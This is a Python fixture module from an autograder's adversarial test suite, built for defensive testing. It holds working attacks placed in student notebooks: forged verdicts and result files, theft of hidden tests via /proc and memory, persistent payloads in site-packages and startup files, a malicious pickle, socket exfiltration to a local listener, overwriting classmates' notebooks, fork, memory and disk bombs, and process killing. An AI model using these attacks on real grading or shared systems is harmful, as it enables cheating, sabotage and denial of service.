"""The attack table: each attack is a notebook of exercise 2.3 (a base notebook from
samples/ex2_3_backprop_manuelle/ plus attack cells) whose honest score is known.

The fixture in tests/test_adversarial.py builds the notebooks. Before the attack cells it adds one
harness cell defining `ADVX_TOKEN` (unique to the run; the grader runs with it in its
environment) and `ADVX_PORT` (a TCP listener of the test standing for an exfiltration server).
Attacks learn everything else at run time, as a student could: cwd, sys.argv, os.environ,
os.getppid(), /proc, the package's own location, walking the file system.

Safety on a shared, unsandboxed machine (the attacks are real, their blast radius is bounded):
- "kill every process" kills only processes carrying ADVX_TOKEN in their environment (the
  grading run), never the whole machine;
- payloads planted outside the test's folders (site-packages, ~/.ipython, /tmp) act only in a
  process whose environment holds ADVX_TOKEN, and carry "advx" in their name or text so the
  fixture can remove them;
- the fork bomb stops at 254 processes, the memory bomb at 6 GiB, the disk filler at 1.5 GiB,
  the output flood at 2 × 200 MiB.
"""

from __future__ import annotations

from dataclasses import dataclass

STUB, BUGGY = "stub", "bug-relu_sortie"
# Scores of the untouched bases (the test checks them against a batch of honest notebooks).
BASE_SCORES = {STUB: 0.0, BUGGY: 6.0}


@dataclass(frozen=True)
class Attack:
    name: str
    base: str  # sample notebook the attack cells are appended to
    cells: tuple[str, ...]
    may_stop: bool = False  # may end as timeout/crashed rather than graded
    honest: float | None = None  # what its own functions earn without the attack, if not 0

    @property
    def expected(self) -> float:
        """The honest score: an attack may lose points, never gain any."""
        return BASE_SCORES[self.base] if self.honest is None else self.honest


# Shared helpers (a cell of their own), defined in the notebook's namespace.
HELPERS = r'''
import json, os, re, sys, time
from pathlib import Path

STUDENT_FUNCTIONS = ["propagation_avant", "perte_entropie_croisee", "retropropagation",
                     "gradient_numerique", "erreur_relative"]


def advx_read(path):
    try:
        return Path(path).read_text(encoding="utf-8", errors="replace")
    except OSError:
        return ""


def advx_hidden(text):
    """What follows the first hidden test case of a check file."""
    at = text.find("hidden=True")
    return text[at:] if at >= 0 else ""


def advx_tests_in(folder):
    """Hidden parts of the check files under `folder` (any depth), and of reference notebooks."""
    found = []
    for path in sorted(Path(folder).rglob("q*.py"))[:50]:
        found.append(advx_hidden(advx_read(path)))
    for path in sorted(Path(folder).rglob("*.ipynb"))[:20]:
        if "reference" in str(path):
            found.append(advx_read(path))
    return "".join(found)


def advx_grader_argv():
    """The grader's command line, read from /proc."""
    raw = Path(f"/proc/{os.getppid()}/cmdline").read_bytes()
    return [a.decode(errors="replace") for a in raw.split(b"\0") if a]


def advx_out_dir():
    argv = advx_grader_argv()
    for i, arg in enumerate(argv):
        if arg in ("--out", "-o") and i + 1 < len(argv):
            return Path(argv[i + 1])
        if arg.startswith("--out="):
            return Path(arg.split("=", 1)[1])
    return None


def advx_leak(text):
    """Push `text` through every channel a result might carry; ends by raising."""
    text = " ".join(text.split())
    if not text:
        raise RuntimeError("rien trouvé")
    print(text)
    print(text, file=sys.stderr)
    chunks = [text[i:i + 250] for i in range(0, min(len(text), 1250), 250)]

    def raiser(chunk):
        def f(*args, **kwargs):
            raise ValueError(chunk)
        return f

    for name, chunk in zip(STUDENT_FUNCTIONS, chunks * 5):
        globals()[name] = raiser(chunk)
    raise RuntimeError(text[:480])
'''

# A payload planted where later Python processes run it; acts only inside this test's runs.
PLANT = r'''
def advx_payload():
    return (
        "import os, sys, threading, time\n"
        f"if os.environ.get('ADVX_TOKEN') == {ADVX_TOKEN!r}:\n"
        "    def _forge():\n"
        "        for _ in range(3000):\n"
        "            mods = [m for n, m in list(sys.modules.items())\n"
        "                    if n.startswith('autograder.checks')]\n"
        "            if mods:\n"
        "                for m in mods:\n"
        "                    for name in dir(m):\n"
        "                        if name.startswith('expect'):\n"
        "                            setattr(m, name, lambda *a, **k: None)\n"
        "                return\n"
        "            time.sleep(0.01)\n"
        "    threading.Thread(target=_forge, daemon=True).start()\n")


def advx_plant(path):
    path = Path(path)
    if path.exists():  # never clobber a real file
        return
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(advx_payload())
    except OSError as exc:
        print("plantation refusée :", path, exc)
'''

NO_OP = "lambda *args, **kwargs: None"

ATTACKS: tuple[Attack, ...] = (
    # ── forging verdicts ──────────────────────────────────────────────────────────────────────
    Attack("patch-checks", STUB, (f'''
import sys
import autograder.checks as C
for mod_name, mod in list(sys.modules.items()):
    if mod_name.startswith("autograder"):
        for name in dir(mod):
            if name.startswith("expect"):
                setattr(mod, name, {NO_OP})
_call = C.call
def call(fn, *args, **kwargs):
    try:
        return _call(fn, *args, **kwargs)
    except Exception:
        return None
C.call = call
''',)),
    Attack("patch-grader-loop", STUB, ('''
import dataclasses, sys
for mod in list(sys.modules.values()):
    original = getattr(mod, "run_check", None)
    if callable(original):
        def forged(*args, _original=original, **kwargs):
            return dataclasses.replace(_original(*args, **kwargs), passed=True, message="")
        mod.run_check = forged
''',), may_stop=True),
    Attack("patch-numerics", STUB, (f'''
import math
import numpy, numpy.testing
import torch, torch.testing
torch.isclose = lambda a, b, *args, **kwargs: torch.ones(torch.broadcast_shapes(
    torch.as_tensor(a).shape, torch.as_tensor(b).shape), dtype=torch.bool)
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = {NO_OP}
torch.Tensor.allclose = lambda *args, **kwargs: True
math.isclose = lambda *args, **kwargs: True
math.isfinite = lambda *args, **kwargs: True
numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = {NO_OP}
numpy.testing.assert_array_almost_equal = {NO_OP}
def propagation_avant(X, params):
    return torch.zeros(X.shape[0], params["W3"].shape[0], dtype=X.dtype)
def perte_entropie_croisee(logits, y):
    return torch.tensor(0.0, dtype=torch.float64)
def retropropagation(X, y, params):
    return {{}}  # no gradient at all: only the patched comparisons could pass it
def gradient_numerique(f, w, eps=1e-6):
    return torch.zeros_like(w)
''',)),
    Attack("patch-builtins", STUB, ('''
import builtins, torch
builtins.bool = lambda *args: True
builtins.all = lambda *args: True
builtins.any = lambda *args: True
builtins.abs = lambda x: 0 * x
builtins.max = lambda *args, **kwargs: 0.0
def propagation_avant(X, params):
    return torch.zeros(X.shape[0], params["W3"].shape[0], dtype=X.dtype)
def retropropagation(X, y, params):
    return {k: torch.zeros_like(v) for k, v in params.items()}
def gradient_numerique(f, w, eps=1e-6):
    return torch.zeros_like(w)
''',), may_stop=True),
    Attack("always-equal", STUB, ('''
class ToujoursEgal(float):
    """Equal to, close to and as large as anything."""
    shape = property(lambda self: ToujoursEgal())
    dtype = property(lambda self: ToujoursEgal())
    def __new__(cls):
        return super().__new__(cls, 0.0)
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __contains__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __abs__ = __neg__ = __pos__ = lambda self: self
    __sub__ = __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = \\
        __rtruediv__ = __pow__ = __matmul__ = __rmatmul__ = lambda self, other: self
    __getitem__ = __getattr__ = lambda self, key: self
    __call__ = lambda self, *args, **kwargs: self
    __iter__ = lambda self: iter([self] * 6)
    __len__ = lambda self: 6
    keys = lambda self: ["W1", "b1", "W2", "b2", "W3", "b3"]
    __repr__ = __str__ = lambda self: "tensor(True)"
    __bool__ = lambda self: True
def partout(*args, **kwargs):
    return ToujoursEgal()
propagation_avant = perte_entropie_croisee = retropropagation = partout
gradient_numerique = erreur_relative = partout
''',)),
    Attack("mirror-tensor", STUB, ('''
import torch
class Miroir(torch.Tensor):
    """A tensor that becomes whatever tensor of its shape it is combined with."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        with torch._C.DisableTorchFunctionSubclass():
            others = [a for a in args if isinstance(a, torch.Tensor) and type(a) is not Miroir]
            def swap(a):
                if type(a) is Miroir:
                    plain = a.as_subclass(torch.Tensor)
                    return next((o for o in others if o.shape == plain.shape), plain)
                return a
            out = func(*[swap(a) for a in args], **kwargs)
            if isinstance(out, torch.Tensor) and out.is_floating_point():
                return out.as_subclass(Miroir)
            return out
def miroir(*shape):
    return torch.zeros(*shape, dtype=torch.float64).as_subclass(Miroir)
def propagation_avant(X, params):
    return miroir(X.shape[0], params["W3"].shape[0])
def perte_entropie_croisee(logits, y):
    return miroir(())
def retropropagation(X, y, params):
    return {k: miroir(v.shape) for k, v in params.items()}
def gradient_numerique(f, w, eps=1e-6):
    return miroir(w.shape)
''',), honest=4 / 3),  # right-shaped gradients pass the public shape check honestly
    Attack("frame-walk", STUB, ('''
import sys
def attendu(*names):
    """An expected value lying in a caller's frame (the check's locals)."""
    frame = sys._getframe(2)
    while frame is not None:
        for name in names:
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
NAMES = ("expected", "want", "reference", "attendu", "expected_grads", "grads_ref", "ref")
def propagation_avant(X, params):
    return attendu(*NAMES)
def perte_entropie_croisee(logits, y):
    return attendu(*NAMES)
def retropropagation(X, y, params):
    return attendu(*NAMES)
def gradient_numerique(f, w, eps=1e-6):
    return attendu(*NAMES)
def erreur_relative(a, b):
    return attendu(*NAMES)
''',)),
    Attack("copy-neighbour", STUB, (HELPERS, r'''
import nbformat, torch
candidates = set()
for arg in advx_grader_argv():
    p = Path(arg)
    if p.is_dir():
        candidates.update(p.rglob("*.ipynb"))
    elif p.suffix == ".ipynb":
        candidates.add(p)
for pid in filter(str.isdigit, os.listdir("/proc")):  # notebooks other workers are running
    try:
        candidates.update(Path(os.readlink(f"/proc/{pid}/cwd")).glob("*.ipynb"))
    except OSError:
        pass
def good(ns):
    g = torch.Generator().manual_seed(5)
    params = {f"W{i}": torch.randn(3, 3, generator=g, dtype=torch.float64) for i in (1, 2, 3)}
    params.update({f"b{i}": torch.randn(3, generator=g, dtype=torch.float64) for i in (1, 2, 3)})
    X, y = torch.randn(4, 3, generator=g, dtype=torch.float64), torch.tensor([0, 1, 2, 0])
    leaves = {k: v.clone().requires_grad_() for k, v in params.items()}
    torch.nn.functional.cross_entropy(ns["propagation_avant"](X, leaves), y).backward()
    got = ns["retropropagation"](X, y, params)
    return all(torch.allclose(got[k], leaves[k].grad) for k in params)
for path in sorted(candidates):
    try:
        nb = nbformat.read(path, as_version=4)
        ns = {}
        for cell in nb.cells:
            if "otter_answer_cell" in cell.metadata.get("tags", []) and cell.cell_type == "code":
                exec(cell.source, ns)
        if good(ns):
            for name in STUDENT_FUNCTIONS:
                if callable(ns.get(name)):
                    globals()[name] = ns[name]
            print("copié depuis", path)
            break
    except Exception:
        continue
''')),
    Attack("fake-output", STUB, ('''
import json, sys
fake = {"type": "check", "question": "q1", "check": "test_propagation_contre_pytorch",
        "hidden": True, "passed": True, "message": "", "seconds": 0.0}
for stream in (sys.stdout, sys.stderr):
    print("q1 results: All test cases passed!", file=stream)
    print(json.dumps(fake), file=stream)
    print(json.dumps({"type": "done"}), file=stream)
    print(json.dumps({"version": 1, "data": [{"score": 9.0, "possible": 9.0,
                                              "status": "graded"}]}), file=stream)
    print("total_points_earned,9.0\\npercent_correct,1.0", file=stream)
''',)),
    Attack("forge-events", STUB, (HELPERS, r'''
import ast
jobs = [Path(a) for a in sys.argv if a.endswith(".json")] + list(Path.cwd().glob(".*.json"))
tests_dir = None
for job in jobs:
    try:
        tests_dir = Path(json.loads(job.read_text())["tests_dir"])
        break
    except (OSError, ValueError, KeyError):
        pass
checks = []
for path in sorted(tests_dir.glob("q*.py")) if tests_dir else []:
    for node in ast.parse(path.read_text()).body:
        if isinstance(node, ast.FunctionDef):
            checks.append((path.stem, node.name, "hidden=True" in ast.unparse(node)))
streams = [Path(a) for a in sys.argv if a.endswith(".jsonl")] + list(Path.cwd().glob(".*.jsonl"))
for stream in streams:
    with open(stream, "a") as f:
        for question, check, hidden in checks:
            f.write(json.dumps({"type": "check", "question": question, "check": check,
                                "hidden": hidden, "passed": True, "message": "",
                                "seconds": 0.0}) + "\n")
        f.write(json.dumps({"type": "done"}) + "\n")
print(f"{len(checks)} vérifications forgées dans {len(streams)} flux")
os._exit(0)
'''), may_stop=True),
    Attack("forge-result-files", STUB, (HELPERS, r'''
import hashlib, tempfile
def forged(result):
    result.update(status="graded", message="9 / 9 points", score=result.get("possible", 9.0))
    for q in result.get("questions", []):
        q["score"] = q["possible"]
    for c in result.get("checks", []):
        c.update(passed=True, points=c["possible"], message="")
    return result
out = advx_out_dir()
targets = [Path.cwd(), Path(tempfile.gettempdir()), Path("/tmp")]
if out is not None:
    (out / "results").mkdir(parents=True, exist_ok=True)
    students = []
    for arg in advx_grader_argv():
        p = Path(arg)
        files = list(p.rglob("*.ipynb")) if p.is_dir() else [p] if p.suffix == ".ipynb" else []
        students += files
    for nb in students:  # a full-marks result that `grade` would resume from (same sha256)
        path = out / "results" / f"{nb.stem}.json"
        result = json.loads(advx_read(path) or "{}") or {
            "schema": 1, "exercise": "2.3", "student": nb.stem, "source": str(nb),
            "possible": 9.0, "questions": [], "checks": [], "cell_errors": [],
            "runtime_s": 1.0, "isolation": "none", "datasets": {}}
        result["source_sha256"] = hashlib.sha256(nb.read_bytes()).hexdigest()
        path.write_text(json.dumps(forged(result)))
    targets.append(out)
for folder in targets:
    try:
        (folder / f"advx-{ADVX_TOKEN}-results.json").write_text(json.dumps(forged({})))
        (folder / "final_grades.csv").write_text("file,total_points_earned\nmoi,9.0\n")
    except OSError as exc:
        print("refusé :", folder, exc)
''')),
    Attack("setsid-forger", STUB, (HELPERS, r'''
import subprocess
SLEEPER = r"""
import json, sys, time
from pathlib import Path
out, token = Path(sys.argv[1]) if sys.argv[1] != "-" else None, sys.argv[2]
start = time.time()
Path(f"/tmp/advx-{token}-sleeper-started").write_text("vivant")
while time.time() - start < 600:  # wait for the grader to finish its gradebook, then forge it
    time.sleep(0.5)
    grades = out / "final_grades.csv" if out else None
    if grades and grades.exists() and grades.stat().st_mtime > start:
        time.sleep(0.5)
        for path in (out / "results").glob("*.json"):
            result = json.loads(path.read_text())
            result.update(score=result["possible"], status="graded")
            path.write_text(json.dumps(result))
        break
Path(f"/tmp/advx-{token}-sleeper-done").write_text("forgé")
"""
try:
    out = str(advx_out_dir() or "-")
except OSError:
    out = "-"
subprocess.Popen([sys.executable, "-c", SLEEPER, out, ADVX_TOKEN],
                 start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''')),
    # ── reading hidden checks and the reference ───────────────────────────────────────────────
    Attack("read-job-file", STUB, (HELPERS, r'''
texts = []
for job in [Path(a) for a in sys.argv if a.endswith(".json")] + list(Path.cwd().glob(".*.json")):
    try:
        texts.append(advx_tests_in(json.loads(job.read_text())["tests_dir"]))
    except (OSError, ValueError, KeyError):
        pass
advx_leak("".join(texts))
''')),
    Attack("env-and-package", STUB, (HELPERS, r'''
roots = [os.environ.get("AUTOGRADER_HOME", "")] + os.environ.get("PYTHONPATH", "").split(":")
try:
    import autograder
    roots.append(str(Path(autograder.__file__).resolve().parents[1]))
except ImportError:
    pass
advx_leak("".join(advx_tests_in(Path(r) / "reference") for r in roots if r))
''')),
    Attack("search-filesystem", STUB, (HELPERS, r'''
import zipfile
deadline = time.monotonic() + 20
roots = [str(p) for p in Path.cwd().parents] + ["/work", "/root", "/home", "/srv", "/opt",
                                               "/tmp", "/"]
found, seen = [], set()
for root in roots:
    for dirpath, dirnames, filenames in os.walk(root):
        if time.monotonic() > deadline or dirpath in seen:
            dirnames[:] = []
            continue
        seen.add(dirpath)
        dirnames[:] = [d for d in dirnames if d not in {"proc", "sys", "dev", ".git"}]
        if Path(dirpath).name == "tests" and "ex2_3" in dirpath:
            found.append(advx_tests_in(dirpath))
        for name in filenames:
            if name.endswith("-autograder.zip") and "ex2_3" in name:
                with zipfile.ZipFile(Path(dirpath) / name) as zf:
                    found += [advx_hidden(zf.read(n).decode()) for n in zf.namelist()
                              if re.search(r"tests/q\d+\.py$", n)]
    if found:
        break
advx_leak("".join(found))
''')),
    Attack("proc-snoop", STUB, (HELPERS, r'''
folders = set()
for pid in filter(str.isdigit, os.listdir("/proc")):
    base = Path("/proc") / pid
    try:
        words = (base / "cmdline").read_bytes().split(b"\0")
        words += (base / "environ").read_bytes().replace(b"=", b"\0").split(b"\0")
        words += [os.readlink(base / "cwd").encode()]
        words += [os.readlink(fd).encode() for fd in (base / "fd").iterdir()]
    except OSError:
        continue
    for word in words:
        path = Path(word.decode(errors="replace"))
        for p in (path, *path.parents):
            if (p / "reference").is_dir() or p.name == "tests":
                folders.add(p)
advx_leak("".join(advx_tests_in(f) for f in sorted(folders)[:20]))
''')),
    Attack("proc-mem", STUB, (HELPERS, r'''
leaks, budget = [], 1 << 30
for pid in (os.getppid(), os.getpid()):
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        continue
    for line in maps:
        span, perms = line.split()[:2]
        lo, hi = (int(x, 16) for x in span.split("-"))
        if "r" not in perms or hi - lo > (256 << 20) or budget <= 0:
            continue
        budget -= hi - lo
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except (OSError, OverflowError, ValueError):
            continue
        for m in re.finditer(rb"hidden=True\)\s*def test_", chunk):
            leaks.append(chunk[m.start():m.start() + 600].decode("utf-8", "replace"))
    if leaks:
        break
advx_leak("".join(leaks[:4]))
''')),
    Attack("grader-memory", STUB, (HELPERS, r'''
import gc, inspect
texts = []
for obj in gc.get_objects():
    code = getattr(obj, "__code__", None)
    if code is not None and getattr(obj, "__name__", "").startswith("test_") \
            and "tests" in code.co_filename:
        try:
            texts.append(inspect.getsource(obj))
        except (OSError, TypeError):
            texts.append(" ".join(map(str, code.co_consts + code.co_names)))
hidden = [t for t in texts if "manual_seed" in t]
advx_leak("".join(hidden or texts))
''')),
    # ── leaving something behind for later submissions ────────────────────────────────────────
    Attack("ipython-startup", STUB, (HELPERS, PLANT, r'''
import pwd
homes = {Path.home(), Path(pwd.getpwuid(os.getuid()).pw_dir)}
for home in homes:
    advx_plant(home / ".ipython" / "profile_default" / "startup" / f"00-advx-{ADVX_TOKEN}.py")
''')),
    Attack("site-pth", STUB, (HELPERS, PLANT, r'''
import site
for folder in site.getsitepackages() + [site.getusersitepackages()]:
    payload = Path(folder) / f"advx_{ADVX_TOKEN.replace('-', '_')}_payload.py"
    advx_plant(payload)
    pth = Path(folder) / f"advx-{ADVX_TOKEN}.pth"
    if payload.exists() and not pth.exists():
        try:
            pth.write_text(f"import os; exec(open({str(payload)!r}).read())\n")
        except OSError as exc:
            print("refusé :", pth, exc)
''')),
    Attack("customize", STUB, (HELPERS, PLANT, r'''
import site
for folder in site.getsitepackages():
    advx_plant(Path(folder) / "sitecustomize.py")
advx_plant(Path(site.getusersitepackages()) / "usercustomize.py")
''')),
    Attack("tamper-checks", STUB, (HELPERS, r'''
roots = {os.environ.get("AUTOGRADER_HOME", "")}
try:
    import autograder
    package = Path(autograder.__file__).resolve().parent
    roots.add(str(package.parent))
    with open(package / "checks" / "compare.py", "a") as f:  # every later import is neutered
        f.write("\nfor _n in list(globals()):\n    if _n.startswith('expect'):\n"
                "        globals()[_n] = lambda *a, **k: None\n")
except (ImportError, OSError) as exc:
    print("refusé :", exc)
for root in filter(None, roots):
    for path in Path(root, "reference").glob("*/tests/q*.py"):
        try:
            path.write_text(re.sub(r"(\ndef test_\w+\([^)]*\):\n)", r"\1    return\n",
                                   path.read_text()))
        except OSError as exc:
            print("refusé :", path, exc)
''')),
    Attack("shared-drop", STUB, (HELPERS, r'''
import pickle, tempfile
class Bombe:
    def __reduce__(self):
        return (open, (f"/tmp/advx-{ADVX_TOKEN}-unpickled", "w"))
Path(".OTTER_LOG").write_bytes(pickle.dumps(Bombe()))  # must never be loaded
places = [Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path(tempfile.gettempdir()),
          Path.home(), Path.cwd().parent, Path(os.environ.get("AUTOGRADER_DATA", "/nonexistent"))]
try:
    places.append(advx_out_dir())
    places += [Path(a) for a in advx_grader_argv() if Path(a).is_dir()]
except OSError:
    pass
for place in places:
    try:
        (place / f"advx-{ADVX_TOKEN}-drop.txt").write_text("passé par là")
        (place / f"advx-{ADVX_TOKEN}.env").write_text("AUTOGRADER_SEED=1\n")
    except (OSError, TypeError) as exc:
        print("refusé :", place, exc)
''')),
    Attack("sabotage-neighbours", STUB, (HELPERS, r'''
mine = next(Path.cwd().glob("*.ipynb")).read_bytes()
for arg in advx_grader_argv():
    folder = Path(arg)
    if folder.is_dir():
        for nb in folder.rglob("*.ipynb"):
            try:
                nb.write_bytes(mine)  # every other student now submits this stub
            except OSError as exc:
                print("refusé :", nb, exc)
''')),
    # ── escaping, starving and killing ────────────────────────────────────────────────────────
    Attack("network", STUB, (HELPERS, r'''
import socket
secret = ""
for job in Path.cwd().glob(".*.json"):
    try:
        secret += advx_tests_in(json.loads(job.read_text())["tests_dir"])
    except (OSError, ValueError, KeyError):
        pass
for host in ("127.0.0.1", "::1", socket.gethostname()):
    try:
        with socket.create_connection((host, ADVX_PORT), timeout=3) as s:
            s.sendall((secret or "bonjour").encode())
    except OSError as exc:
        print("réseau refusé :", host, exc)
''')),
    Attack("fork-bomb", STUB, (r'''
import os, time
def bombe(depth):
    for _ in range(2):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                with open("/proc/self/comm", "w") as f:
                    f.write("advx-fork")
                if depth > 0:
                    bombe(depth - 1)
                time.sleep(300)
            finally:
                os._exit(0)
bombe(6)
''',), may_stop=True),
    Attack("memory-bomb", STUB, (r'''
hog = []
for _ in range(24):  # 24 × 256 MiB, every page touched
    hog.append(b"\x01" * (256 << 20))
''',), may_stop=True),
    Attack("infinite-loop", STUB, ("while True:\n    pass\n",), may_stop=True),
    Attack("fill-disk", STUB, (r'''
import os, tempfile
block = os.urandom(64 << 20)
for folder, blocks in ((".", 16), (tempfile.gettempdir(), 4), ("/tmp", 4)):
    try:
        with open(os.path.join(folder, f"advx-{ADVX_TOKEN}-fill.bin"), "wb") as f:
            for _ in range(blocks):
                f.write(block)
    except OSError as exc:
        print("disque refusé :", folder, exc)
''',), may_stop=True),
    Attack("flood-output", STUB, (r'''
import os
line = b"inondation " * 95 + b"\n"  # 1 KiB
block = line * 1024
for fd in (1, 2):
    for _ in range(200):
        os.write(fd, block)
''',), may_stop=True),
    # ── making the grader work: objects that never stop answering ────────────────────────────
    Attack("universal-duck", STUB, (HELPERS, r'''
class Canard:
    """Every attribute, item, call and iteration is itself; it has a length, but no end."""
    def __getattr__(self, name):
        return self
    def __getitem__(self, key):
        return self
    def __call__(self, *args, **kwargs):
        return self
    def __iter__(self):
        return self
    def __next__(self):
        return self
    def __len__(self):
        return 10 ** 6
canard = Canard()
for name in STUDENT_FUNCTIONS:
    globals()[name] = canard
''',)),
    Attack("endless-iterator", STUB, (HELPERS, r'''
import itertools
def sans_fin(*args, **kwargs):
    return itertools.count()
class Flot:
    def __iter__(self):
        return itertools.repeat(self)
    def __call__(self, *args, **kwargs):
        return self
for i, name in enumerate(STUDENT_FUNCTIONS):
    globals()[name] = sans_fin if i % 2 else Flot()
''',)),
    Attack("deep-nesting", STUB, (HELPERS, r'''
profond = []
for _ in range(100_000):
    profond = [profond]
class Poupee:
    """Each attribute or item is a new, deeper doll."""
    def __init__(self, depth=0):
        self.depth = depth
    def __getattr__(self, name):
        return Poupee(self.depth + 1)
    def __getitem__(self, key):
        return Poupee(self.depth + 1)
    def __call__(self, *args, **kwargs):
        return profond
for i, name in enumerate(STUDENT_FUNCTIONS):
    globals()[name] = Poupee() if i % 2 else (lambda *a, **k: profond)
''',)),
    Attack("exit-mid-run", BUGGY, ("import os\nos._exit(0)\n",), may_stop=True),
    Attack("kill-parent", STUB, ("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",),
           may_stop=True),
    Attack("kill-everything", STUB, (r'''
import os, signal
me = os.getpid()
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == me:
        continue
    try:
        mine = ADVX_TOKEN.encode() in open(f"/proc/{pid}/environ", "rb").read()
    except OSError:
        continue
    if mine:  # safety bound: only this grading run, not the whole machine
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
''',), may_stop=True),
)
